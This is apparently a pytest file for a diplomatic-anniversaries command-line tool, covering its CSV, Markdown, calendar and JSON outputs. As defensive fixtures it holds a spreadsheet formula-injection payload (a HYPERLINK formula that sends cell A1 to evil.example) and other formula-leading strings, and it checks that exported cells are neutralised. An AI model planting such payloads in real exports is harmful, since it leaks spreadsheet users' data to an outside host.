"""Each output read by the client that real users point at it: the csv module as a
spreadsheet's importer, a Markdown parser, a calendar library, a JSON Schema validator."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import icalendar
import jsonschema
from markdown_it import MarkdownIt

from tests.helpers import ROOT, Run, assert_data_error, assert_usage_error, event

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def hostile_store(make_store: Callable[..., Path]) -> Path:
    return make_store(
        [
            event(id="f-1", title=FORMULA),
            event(id="f-2", date="1997", kind="visit", title="+1 visit", by="AZ"),
            event(id="f-3", date="1998", kind="visit", title="@SUM(A1:A9)", by="AZ"),
            event(id="f-4", date="1999", kind="visit", title="-2+3", by="AZ"),
        ]
    )


def test_csv_cells_never_run_as_formulas(run: Run, make_store: Callable[..., Path]) -> None:
    store = hostile_store(make_store)
    out = run("timeline", "AZ", "JP", "--store", str(store), "--format", "csv").stdout
    titles = [row["title"] for row in csv.DictReader(io.StringIO(out))]
    assert titles == ["'" + FORMULA, "'+1 visit", "'@SUM(A1:A9)", "'-2+3"]
    raw = run("timeline", "AZ", "JP", "--store", str(store), "--format", "csv", "--raw").stdout
    assert next(row["title"] for row in csv.DictReader(io.StringIO(raw))) == FORMULA


def test_every_csv_listing_is_protected(run: Run, make_store: Callable[..., Path]) -> None:
    store = str(hostile_store(make_store))
    for args in (
        ("anniversary", "--year", "2022", "--every", "1"),
        ("search", "A", "--kind", "diplomatic-relations"),
        ("upcoming", "--as-of", "2022-09-01", "--days", "30", "--every", "1"),
    ):
        out = run(*args, "--store", store, "--format", "csv").stdout
        assert "=HYPERLINK" not in out.replace("'=HYPERLINK", ""), args


def test_markdown_sources_are_links(run: Run) -> None:
    text = run("show", "az-jp-diplomatic-relations", "--format", "markdown").stdout
    html = MarkdownIt().render(text)
    assert '<a href="https://tokyo.mfa.gov.az/' in html
    assert "\\_" not in html.split("href=")[1].split('"')[1]
    letter = MarkdownIt().render(run("show-letter", "--format", "markdown").stdout)
    assert "<a href=" in letter


def test_an_empty_calendar_is_not_written(run: Run, tmp_path: Path) -> None:
    target = tmp_path / "none.ics"
    result = run(
        "export", "ics", "--from-year", "2031", "--to-year", "2031", "--pair", "AZ", "JP",
        "--every", "100", "-o", str(target),
    )  # fmt: skip
    assert_data_error(result, "no anniversary to put in a calendar", "nothing was written")
    assert not target.exists()


def test_a_calendar_is_valid_for_icalendar(run: Run, tmp_path: Path) -> None:
    target = tmp_path / "az.ics"
    result = run(
        "export", "ics", "--from-year", "2027", "--to-year", "2027", "--country", "AZ",
        "-o", str(target),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    calendar = icalendar.Calendar.from_ical(target.read_bytes())
    assert calendar.walk("VEVENT")
    assert " anniversaries written to " in result.stderr or " anniversary written" in (
        result.stderr
    )


def test_a_calendar_spans_at_most_200_years(run: Run) -> None:
    result = run(
        "export", "ics", "--from-year", "1", "--to-year", "9999", "--every", "1", "-o", "-"
    )
    assert_usage_error(result, "at most 200 years")


def test_export_json_is_a_valid_store_by_the_schema(run: Run) -> None:
    schema = json.loads((ROOT / "data" / "events.schema.json").read_text())
    out = run("export", "json", "--pair", "AZ", "JP").stdout
    jsonschema.validate(json.loads(out), schema)


def test_one_line_rows_of_a_parties_option_never_swallow_options(run: Run) -> None:
    result = run("add", "--date", "2022", "--parties", "AZ", "--kind", "visit")
    assert_usage_error(result, "expected a country, got the option '--kind'")


def test_stores_lists_a_missing_store(run: Run, tmp_path: Path) -> None:
    missing = tmp_path / "a.json"
    bundled = ROOT / "data" / "events.json"
    result = run("stores", "--format", "json", env={"BILAT_STORE": f"{missing}:{bundled}"})
    assert result.exit_code == 0, result.output
    stores = json.loads(result.stdout)["stores"]
    assert stores[0]["status"] == "not read: no such store file"
    assert stores[1]["status"] == "read"


def test_relations_name_countries(run: Run) -> None:
    out = " ".join(run("relations", "AZ").stdout.split())
    assert "Japan recognised Azerbaijan 1991-12-28" in out
